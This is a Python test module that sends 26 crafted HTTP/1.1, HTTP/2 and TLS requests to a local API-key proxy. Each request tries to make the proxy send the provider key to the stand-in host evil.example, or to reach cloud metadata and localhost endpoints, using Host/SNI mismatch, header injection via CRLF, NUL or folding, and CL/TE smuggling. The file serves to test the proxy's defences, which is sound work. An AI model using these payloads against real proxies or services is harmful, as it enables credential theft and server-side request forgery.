"""Requests of somebody who has a client token and wants the provider key: raw, as they are sent."""

import contextlib
import socket
import ssl
from collections.abc import Callable
from dataclasses import dataclass

from h2.config import H2Configuration
from h2.connection import H2Connection

from tests.live import wire

OPENAI, ANTHROPIC, EVIL = "api.openai.com", "api.anthropic.com", "evil.example"
CHAT = "/v1/chat/completions"
BODY = b'{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}'
PATIENCE_S = 1.2
type Say = Callable[[str], bytes]


@dataclass(frozen=True, slots=True)
class Attack:
    """Where the tunnel goes, which name TLS has in it, and what is sent there."""

    name: str
    said: Say
    """Given the client token."""
    connect: str = f"{OPENAI}:443"
    """Empty: no tunnel, straight to the proxy."""
    sni: str | None = OPENAI
    """None: no TLS in the tunnel; empty: TLS without a name."""
    alpn: tuple[str, ...] = ()


def post(host: str, target: str = CHAT, extra: bytes = b"") -> Say:
    """Write a request with a client token."""

    def said(token: str) -> bytes:
        fields = [("Host", host)] if host else []
        fields += [("Authorization", f"Bearer {token}"), ("Content-Length", str(len(BODY)))]
        head = wire.request("POST", target, fields)
        return head[:-2] + extra + b"\r\n" + BODY

    return said


def post_h2(authority: str, *extra: tuple[str, str]) -> Say:
    """Write the same in HTTP/2, checked by nobody on this side."""

    def said(token: str) -> bytes:
        config = H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
        )
        connection = H2Connection(config)
        connection.initiate_connection()
        headers = [(":method", "POST"), (":scheme", "https"), (":authority", authority)]
        headers += [(":path", CHAT), ("authorization", f"Bearer {token}"), *extra]
        connection.send_headers(1, headers)
        connection.send_data(1, BODY, end_stream=True)
        return connection.data_to_send()

    return said


_CL_TE = b"Transfer-Encoding: chunked\r\n"
_H2 = ("h2", "http/1.1")
_FRONT = f"{OPENAI}@{EVIL}"

# Each is named after what it tries.
ATTACKS = (
    Attack("01 another tunnel, our Host", post(OPENAI), f"{EVIL}:443", EVIL),
    Attack("02 shared address, another name", post(ANTHROPIC), f"{ANTHROPIC}:443", EVIL),
    Attack("03 SNI is not CONNECT", post(ANTHROPIC), sni=ANTHROPIC),
    Attack("04 plain http to the proxy", post(OPENAI, f"http://{OPENAI}{CHAT}"), "", None),
    Attack("05 plain http in a tunnel to 80", post(OPENAI), f"{OPENAI}:80", None),
    Attack("06 another port", post(f"{OPENAI}:8443"), f"{OPENAI}:8443"),
    Attack("07 fronting by Host", post(EVIL)),
    Attack("08 absolute target elsewhere", post(OPENAI, f"https://{EVIL}{CHAT}")),
    Attack("09 absolute target, Host elsewhere", post(EVIL, f"https://{OPENAI}{CHAT}"), "", None),
    Attack("10 authority of HTTP/2 elsewhere", post_h2(EVIL), alpn=_H2),
    Attack("11 two Hosts", post(OPENAI, extra=f"Host: {EVIL}\r\n".encode())),
    Attack("12 our name as the beginning", post(f"{OPENAI}.{EVIL}"), f"{OPENAI}.{EVIL}:443"),
    Attack("13 userinfo in the target", post(OPENAI, f"https://{_FRONT}{CHAT}"), "", None),
    Attack("14 a dot at the end", post(f"{OPENAI}."), f"{OPENAI}.:443", f"{OPENAI}."),
    Attack("15 HTTP/2 Host is not authority", post_h2(OPENAI, ("host", EVIL)), alpn=_H2),
    Attack("16 metadata of a cloud", post(OPENAI, "http://169.254.169.254/"), "", None),
    Attack("17 a local service", post(OPENAI, "http://127.0.0.1:9999/"), "", None),
    Attack(
        "18 further credentials",
        post(OPENAI, extra=b"Proxy-Authorization: Basic eDp5\r\nX-Api-Key: sk-other\r\n"),
    ),
    Attack("19 an address in the tunnel", post(OPENAI), "127.0.0.1:443", OPENAI),
    Attack("20 no name in TLS", post(OPENAI), sni=""),
    Attack("21 two lengths", post(OPENAI, extra=_CL_TE)),
    Attack("22 a blank before the colon", post("", extra=f"Host : {EVIL}\r\n".encode())),
    Attack("23 bare CR", post(OPENAI, extra=f"X-A: a\rHost: {EVIL}\r\n".encode())),
    Attack("24 CRLF in HTTP/2", post_h2(OPENAI, ("x-a", f"a\r\nhost: {EVIL}")), alpn=_H2),
    Attack("25 NUL", post(OPENAI, extra=f"X-A: a\x00Host: {EVIL}\r\n".encode())),
    Attack("26 folded", post(OPENAI, extra=f"X-A: a\r\n Host: {EVIL}\r\n".encode())),
)  # fmt: skip


def attempt(port: int, attack: Attack, token: str) -> bytes:
    """Do it; give whatever came back."""
    with contextlib.ExitStack() as stack:
        plain = stack.enter_context(socket.create_connection(("127.0.0.1", port), PATIENCE_S))
        line: socket.socket = plain
        with contextlib.suppress(OSError):
            if attack.connect:
                wire.tunnel(plain, attack.connect)
            if attack.sni is not None:
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                if attack.alpn:
                    context.set_alpn_protocols(list(attack.alpn))
                name = attack.sni or None
                line = stack.enter_context(context.wrap_socket(plain, server_hostname=name))
            line.sendall(attack.said(token))
            return _answer(line.recv)
    return b""


def _answer(receive: Callable[[int], bytes]) -> bytes:
    """Read until the other side has said all that it wants to say, or for a while."""
    said = b""
    with contextlib.suppress(OSError):
        while more := receive(65536):
            said += more
            if b"\r\n\r\n" in said and said.rstrip().endswith((b"}", b"[DONE]")):
                break
    return said
